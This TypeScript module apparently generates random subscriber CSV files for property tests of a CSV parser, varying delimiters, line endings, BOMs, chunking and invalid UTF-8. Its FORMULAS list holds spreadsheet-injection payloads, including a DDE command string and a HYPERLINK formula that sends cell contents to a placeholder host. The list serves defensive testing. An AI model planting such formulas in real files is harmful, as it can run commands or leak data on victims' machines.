// fast-check generators of subscribers CSV files, for the parser's property tests (csv.fuzz.test.ts)
// and the database-backed ones (test/fuzz.csv.test.ts). A generated file comes with its model:
// the subscribers it holds and the line each row starts on, so a test can compare what the
// reader made of the bytes with what was written.
import fc from 'fast-check';
import { OPTIONAL_COLUMNS, REQUIRED_COLUMNS } from '../../src/subscribers/csv.ts';
import { restoreFormula } from '../../src/subscribers/csv-formulas.ts';

/** Every column, with one attribute column of free text (`attr.note`). */
export const COLUMNS = [...REQUIRED_COLUMNS, ...OPTIONAL_COLUMNS, 'attr.note'] as const;
type Column = (typeof COLUMNS)[number];

/** What a row says, before ids, phones and emails are made unique (materialise). */
export interface RowShape {
  readonly name: string;
  readonly hasPhone: boolean;
  readonly hasEmail: boolean;
  readonly emailUpper: boolean;
  readonly locale: readonly [written: string, read: 'fr' | 'en'];
  readonly timezone: readonly [written: string, read: string];
  readonly assistant: string;
  readonly channels: readonly ('whatsapp' | 'email')[];
  readonly consentAt: number;
  readonly source: string;
  readonly note: string;
  readonly tags: readonly string[];
}

export interface FileShape {
  readonly rows: readonly RowShape[];
  readonly delimiter: ',' | ';';
  readonly eol: '\n' | '\r\n';
  readonly bom: boolean;
  readonly quoteAll: boolean;
  readonly columns: readonly Column[];
  /** Empty lines written before each row (same length as rows). */
  readonly emptyBefore: readonly number[];
}

// Letters people's names really have, and the characters that trouble CSV and spreadsheets.
const NAME_CHARS = [
  ...'abcXYZéèçÀÉÖñß',
  '李',
  '👍',
  '🇫🇷',
  ' ',
  ',',
  ';',
  '"',
  "'",
  '=',
  '+',
  '-',
  '@',
  '|',
  '!',
  '(',
  ')',
];
const FORMULAS = ["=cmd|' /C calc'!A0", '=HYPERLINK("http://x.example/?"&A1)', '+1+1', '-2+3', '@SUM(A1)'];

const edgeless = (s: string) => s.trim() === s && s !== '';

/** A valid name: 1–40 characters, no control character, no space at either end. */
export const nameArb = fc.oneof(
  fc.string({ unit: fc.constantFrom(...NAME_CHARS), minLength: 1, maxLength: 40 }).filter(edgeless),
  fc.constantFrom(...FORMULAS),
  fc.constantFrom(...FORMULAS).map((f) => `'${f}`),
);

/** A valid consent source: free text, with line breaks and formulas. */
export const sourceArb = fc.oneof(
  fc
    .array(fc.string({ unit: fc.constantFrom(...NAME_CHARS), minLength: 1, maxLength: 30 }), {
      minLength: 1,
      maxLength: 3,
    })
    .chain((parts) =>
      fc
        .array(fc.constantFrom('\n', '\r\n', ' '), {
          minLength: parts.length - 1,
          maxLength: parts.length - 1,
        })
        .map((breaks) => parts.map((p, i) => (i === 0 ? p : `${breaks[i - 1]}${p}`)).join('')),
    )
    .filter(edgeless),
  fc.constantFrom(...FORMULAS),
);

const tagArb = fc.stringMatching(/^[a-z0-9][a-z0-9_-]{0,12}$/);

export const rowShapeArb: fc.Arbitrary<RowShape> = fc
  .record({
    name: nameArb,
    contact: fc.constantFrom('both', 'phone', 'email'),
    emailUpper: fc.boolean(),
    locale: fc.constantFrom<[string, 'fr' | 'en']>(
      ['fr', 'fr'],
      ['fr-FR', 'fr'],
      ['en', 'en'],
      ['EN-gb', 'en'],
    ),
    timezone: fc.constantFrom<[string, string]>(
      ['Europe/Paris', 'Europe/Paris'],
      ['europe/paris', 'Europe/Paris'],
      ['America/New_York', 'America/New_York'],
      ['Asia/Kolkata', 'Asia/Kolkata'],
      ['UTC', 'UTC'],
    ),
    assistant: fc.constantFrom('chatgpt', 'copilot', 'both', 'Both'),
    channelPick: fc.constantFrom('all', 'first', 'last'),
    consentAt: fc.integer({
      min: Date.parse('2020-01-01T00:00:00Z'),
      max: Date.parse('2025-12-31T00:00:00Z'),
    }),
    source: sourceArb,
    note: fc.oneof(fc.constant(''), sourceArb),
    tags: fc.uniqueArray(tagArb, { maxLength: 3 }),
  })
  .map((r) => {
    const available: ('whatsapp' | 'email')[] = [
      ...(r.contact !== 'email' ? (['whatsapp'] as const) : []),
      ...(r.contact !== 'phone' ? (['email'] as const) : []),
    ];
    const channels =
      r.channelPick === 'all'
        ? available
        : r.channelPick === 'first'
          ? available.slice(0, 1)
          : available.slice(-1);
    return {
      name: r.name,
      hasPhone: r.contact !== 'email',
      hasEmail: r.contact !== 'phone',
      emailUpper: r.emailUpper,
      locale: r.locale,
      timezone: r.timezone,
      assistant: r.assistant,
      channels,
      // Whole seconds: the model compares epoch milliseconds with what the reader parses.
      consentAt: Math.floor(r.consentAt / 1000) * 1000,
      source: r.source,
      note: r.note,
      tags: r.tags,
    };
  });

export const fileShapeArb = (rows: { minLength?: number; maxLength: number }): fc.Arbitrary<FileShape> =>
  fc.array(rowShapeArb, rows).chain((shapes) =>
    fc.record({
      rows: fc.constant(shapes),
      delimiter: fc.constantFrom<',' | ';'>(',', ';'),
      eol: fc.constantFrom<'\n' | '\r\n'>('\n', '\r\n'),
      bom: fc.boolean(),
      quoteAll: fc.boolean(),
      columns: fc.boolean().chain((withTags) => {
        const columns = withTags ? [...COLUMNS] : COLUMNS.filter((c) => c !== 'tags');
        return fc.shuffledSubarray(columns, { minLength: columns.length });
      }),
      emptyBefore: fc.array(fc.integer({ min: 0, max: 2 }), {
        minLength: shapes.length,
        maxLength: shapes.length,
      }),
    }),
  );

/** A row's cells, its id, phone and email made unique by `run` and its index. */
function cells(shape: RowShape, run: string, index: number): Record<Column, string> {
  const n = String(index).padStart(3, '0');
  return {
    id: `${run}s${n}`,
    name: shape.name,
    phone: shape.hasPhone ? `+336${run.replace(/\D/g, '').padStart(5, '0').slice(-5)}${n}` : '',
    email: shape.hasEmail ? `${shape.emailUpper ? 'P' : 'p'}${run}-${n}@example.org` : '',
    locale: shape.locale[0],
    timezone: shape.timezone[0],
    assistant: shape.assistant,
    channels: shape.channels.join(';'),
    consent_at: new Date(shape.consentAt).toISOString(),
    consent_source: shape.source,
    tags: shape.tags.join(';'),
    'attr.note': shape.note,
  };
}

/** What the reader should make of a row: validateSubscriber's SubscriberInput. */
export function expectedValue(shape: RowShape, run: string, index: number, withTags: boolean) {
  const c = cells(shape, run, index);
  return {
    id: c.id,
    name: restoreFormula(shape.name).trim(),
    ...(c.phone === '' ? {} : { phone: c.phone, phoneRegion: 'FR' }),
    ...(c.email === '' ? {} : { email: c.email.toLowerCase() }),
    locale: shape.locale[1],
    timezone: shape.timezone[1],
    attributes: {
      note: restoreFormula(shape.note.trim()).trim() || null,
      assistant: shape.assistant.toLowerCase(),
    },
    channels: shape.channels,
    consentAt: shape.consentAt,
    consentSource: restoreFormula(shape.source).trim(),
    tags: withTags ? shape.tags : [],
  };
}

function quote(value: string, file: FileShape): string {
  const needs = value.includes(file.delimiter) || /["\r\n]/.test(value);
  return file.quoteAll || needs ? `"${value.replaceAll('"', '""')}"` : value;
}

/** Line breaks in a text: LF, CRLF and a lone CR each count once (a CR ending it counts). */
export function lineBreaks(text: string): number {
  return (text.match(/\r\n|\r|\n/g) ?? []).length;
}

export interface WrittenFile {
  readonly text: string;
  /** The line each row starts on. */
  readonly lines: readonly number[];
}

/** The file as text (a BOM included), with the line each row starts on. */
export function writeFile(file: FileShape, run = ''): WrittenFile {
  const line = (values: readonly string[]) =>
    values.map((v) => quote(v, file)).join(file.delimiter) + file.eol;
  let text = (file.bom ? '\uFEFF' : '') + line(file.columns);
  let at = 2;
  const lines: number[] = [];
  file.rows.forEach((shape, i) => {
    const empty = file.emptyBefore[i] ?? 0;
    text += file.eol.repeat(empty);
    at += empty;
    lines.push(at);
    const c = cells(shape, run, i);
    const written = line(file.columns.map((column) => c[column]));
    text += written;
    at += lineBreaks(written);
  });
  return { text, lines };
}

/** Bytes cut into chunks of the given sizes, cycled: records and characters straddle chunks. */
export function chunked(bytes: Buffer, sizes: readonly number[]): Buffer[] {
  const out: Buffer[] = [];
  for (let i = 0, k = 0; i < bytes.length; k++) {
    const size = sizes.length === 0 ? bytes.length : sizes[k % sizes.length]!;
    out.push(bytes.subarray(i, i + size));
    i += size;
  }
  return out;
}

export const chunkSizesArb = fc.array(fc.integer({ min: 1, max: 64 }), { minLength: 1, maxLength: 5 });

/** Byte sequences that are not UTF-8, each the way real files get them. */
export const NOT_UTF8: readonly (readonly [string, Buffer])[] = [
  ['Latin-1 é', Buffer.from([0xe9])],
  ['Windows-1252 quote', Buffer.from([0x92])],
  ['lone continuation', Buffer.from([0x80])],
  ['0xFF', Buffer.from([0xff])],
  ['overlong /', Buffer.from([0xc0, 0xaf])],
  ['UTF-16 surrogate', Buffer.from([0xed, 0xa0, 0x80])],
  ['cut emoji', Buffer.from([0xf0, 0x9f, 0x98])],
  ['lead then ASCII', Buffer.from([0xc3, 0x41])],
];
